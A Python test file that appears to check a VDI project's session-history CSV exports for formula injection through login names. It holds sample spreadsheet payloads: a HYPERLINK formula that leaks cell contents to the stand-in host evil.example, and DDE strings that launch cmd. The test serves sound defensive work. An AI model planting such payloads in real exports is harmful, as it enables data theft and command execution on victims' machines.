"""CSV formula injection through the session history: a stranger types a formula as
their login (``=HYPERLINK(...)``, ``@SUM(...)``, ``+…``, ``-…``) into the L7R. Their
failed login is recorded with the login they claimed; an administrator exports the
history and opens it in a spreadsheet, which must not run it. The export (REST CSV and
``qa --csv``) prefixes such cells with ``'``.

Guards: ``qvd.api.faces.routes.session_history.cell_text`` (``defuse``) and the CSV
output of ``qa`` (``qvd.cli.output._defuse``)."""

from __future__ import annotations

import base64
import csv
import io
from pathlib import Path

import anyio.from_thread
from sqlalchemy.orm import Session

from qvd.api import create_app
from qvd.cli import run
from tests.api.asgi import PortalTransport, asgi_client
from tests.api.conftest import PASSWORD, Api, add_admin, api_config
from tests.l7r.conftest import Lab
from tests.l7r.conftest import lab as lab
from tests.l7r.test_history import get, rows
from tests.l7r.test_wire import B1

PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")  # fmt: skip
FORMULA = ("=", "+", "-", "@")


def test_formula_logins_are_neutralised_in_every_export(lab: Lab, tmp_path: Path) -> None:
    for payload in PAYLOADS:
        basic = "Basic " + base64.b64encode(f"{payload}:pw".encode()).decode()
        assert get(lab, B1.replace(b"Basic YWxpY2U6c2VjcmV0", basic.encode())).startswith(
            b"HTTP/1.1 401"
        )
    recorded = {r["login"] for r in rows(lab, "kind = 'login'")}
    assert any(login.startswith(FORMULA) for login in recorded), recorded

    with Session(lab.engine) as s, s.begin():
        add_admin(s, "root", 0)
    app = create_app(api_config(tmp_path), lab.engine)
    with asgi_client(app) as client:
        exported = client.get(
            "/api/v1/session_history.csv",
            headers=Api(client).headers("root"),
            params={"fields": "id,login,detail,result"},
        )
    assert exported.status_code == 200, exported.text
    cells = [c for r in list(csv.reader(io.StringIO(exported.text)))[1:] for c in r]
    assert len(cells) >= 4 * len(PAYLOADS)
    assert not [c for c in cells if c.startswith(FORMULA)], cells
    assert any(c.startswith("'=HYPERLINK") for c in cells)

    with anyio.from_thread.start_blocking_portal() as portal:
        out, err = io.StringIO(), io.StringIO()
        code = run(
            ["-u", "https://api.test/", "-l", "root", "-p", PASSWORD, "-t", "*",
             "session", "kind=login", "get", "login,result", "--csv"],
            out=out, err=err, transport=PortalTransport(app, portal),
            environ={"HOME": "/nowhere"},
        )  # fmt: skip
    assert code == 0, err.getvalue()
    cells = [c for r in list(csv.reader(io.StringIO(out.getvalue())))[1:] for c in r]
    assert len(cells) >= 2 * len(PAYLOADS)
    assert not [c for c in cells if c.startswith(FORMULA)], cells
